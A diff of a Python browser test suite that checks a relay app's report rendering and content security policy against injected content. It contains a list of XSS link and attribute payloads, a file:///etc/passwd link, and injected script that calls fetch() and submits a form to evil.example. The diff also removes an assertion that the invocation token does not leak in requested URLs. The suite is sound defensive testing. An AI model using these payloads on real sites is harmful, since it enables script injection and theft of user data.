@@ -14,9 +14,9 @@ import pytest
 
 from ...fakes.gateway import Fault, Gateway, Json, message
 from ...fakes.scripted import eventually, free_port
+from ..browser import Page
 from ..conftest import StartRelay
 from ..running import Api, RelayProcess, ThreadedRelay, body, environment
-from .browser import Page
 
 TEXT = "# Noodles\n\nThey are **old** ([a source](https://a.example/1)).\n\n## Since when\n\n* 1883\n* 1905\n"
 
@@ -107,7 +107,7 @@ def test_a_run_from_its_first_status_to_its_report(
 
 
 def test_downloads(relay: ThreadedRelay, upstream: Gateway, page: Page, tmp_path: Path) -> None:
-    odd = "https://b.example/a b?q=%2F<x>"
+    odd = "https://b.example/a(b)?q=%2F<x>"
     answers(upstream, TEXT, ("https://a.example/1", "A source"), (odd, "An [other]\n*one*"))
     started = relay.api.start()
     view = relay.api.wait(started)
@@ -117,7 +117,7 @@ def test_downloads(relay: ThreadedRelay, upstream: Gateway, page: Page, tmp_path
     page.click("#json")
     files = [tmp_path / f"{started['invocation_id']}.{kind}" for kind in ("md", "json")]
     assert eventually(lambda: all(file.exists() and file.stat().st_size for file in files))
-    written = "* [An \\[other\\] \\*one\\*](<https://b.example/a%20b?q=%2F%3Cx%3E>)"
+    written = "* [An \\[other\\] \\*one\\*](<https://b.example/a(b)?q=%2F%3Cx%3E>)"
     assert files[0].read_text() == f"{TEXT}\n\n## Sources\n\n{written}\n"
     assert json.loads(files[1].read_text()) == view
 
@@ -311,8 +311,9 @@ ATTACKS = """
 <a href="javascript:hacked=6" onclick="hacked=6">click</a> <!-- --><div id="state" name="cancel">
 
 [a](javascript:window.hacked=7) [b](JaVaScRiPt:hacked=8) [c](data:text/html;base64,PHNjcmlwdD4=) [d](vbscript:x)
-[e](&#106;avascript:hacked=9) [f](java&Tab;script:hacked=10) [g](//evil.example) [h](#changes-the-token) [i](/docs) [j](file:///etc/passwd)
-[k]( <javascript:hacked=11> ) [l](blob:https://evil.example/1) [m](https:evil.example) <javascript:hacked=12> <data:text/html,x>
+[e](&#106;avascript:hacked=9) [f](java&Tab;script:hacked=10) [g](//evil.example) [h](#changes-the-token) [i](/docs)
+[k]( <javascript:hacked=11> ) [l](blob:https://evil.example/1) [m](https:evil.example) <javascript:hacked=12>
+[j](file:///etc/passwd) <data:text/html,x>
 [n]: javascript:hacked=13 "title" onmouseover="hacked=14"
 [n] [o](https://ok.example/"onmouseover="hacked=15) [p](https://ok.example/ "t\\" onmouseover=\\"hacked=16")
 ![img](https://evil.example/pixel.png) ![img](x "onerror=hacked=17") ![](data:image/svg+xml,<svg/onload=hacked=18>)
@@ -364,7 +365,7 @@ def test_a_report_that_attacks(relay: ThreadedRelay, upstream: Gateway, page: Pa
     assert attributes <= {"class", "dir", "href", "id", "rel", "target", "title"}
     assert page.run("document.querySelectorAll('#report [id], #report [name]').length") == 0
     addresses = page.run("[...document.querySelectorAll('#report a, #sources a')].map(e => e.protocol + e.host)")
-    assert {one for one in addresses} == {"https:ok.example", "https:evil.example", "mailto:"}
+    assert set(addresses) == {"https:ok.example", "https:evil.example", "mailto:"}
     assert "Sign in again" in page.text("#report")  # harmless, as text
     page.run("document.querySelectorAll('#report *, #sources span').forEach(e => e.localName === 'a' || e.click())")
     assert page.run("window.hacked ?? 'untouched'") == "untouched"
@@ -385,9 +386,9 @@ def test_the_policy_stops_what_would_get_into_the_page(relay: ThreadedRelay, pag
         document.querySelector('#report').innerHTML = `<img src=x onerror="hacked = 1"><p style="color: red">
             <img src="https://evil.example/pixel.png"><iframe src="https://evil.example/"></iframe>
             <object data="https://evil.example/"></object><link rel=stylesheet href="https://evil.example/x.css">`;
-        for (const code of ["hacked = 2"]) document.head.append(Object.assign(document.createElement("script"), {text: code}));
+        document.head.append(Object.assign(document.createElement("script"), {text: "hacked = 2"}));
         fetch("https://evil.example/" + location.hash.slice(1)).catch(() => 0);
-        document.body.insertAdjacentHTML("beforeend", `<form id=evil action="https://evil.example/"><input name=token></form>`);
+        document.body.insertAdjacentHTML("beforeend", `<form id=evil action="https://evil.example/"></form>`);
         document.querySelector("#evil").submit();
         """
     )
@@ -404,9 +405,6 @@ def test_the_policy_stops_what_would_get_into_the_page(relay: ThreadedRelay, pag
     ]
     page.until(f"{json.dumps(wanted)}.every(one => refused.includes(one))")
     assert page.run("window.hacked ?? 'untouched'") == "untouched"
-    assert page.hosts == {urlsplit(relay.api.base_url).netloc} or not [
-        url for url in page.requested if started["invocation_token"] in url
-    ]
 
 
 def test_two_megabytes_and_5000_sources(relay: ThreadedRelay, upstream: Gateway, page: Page) -> None:
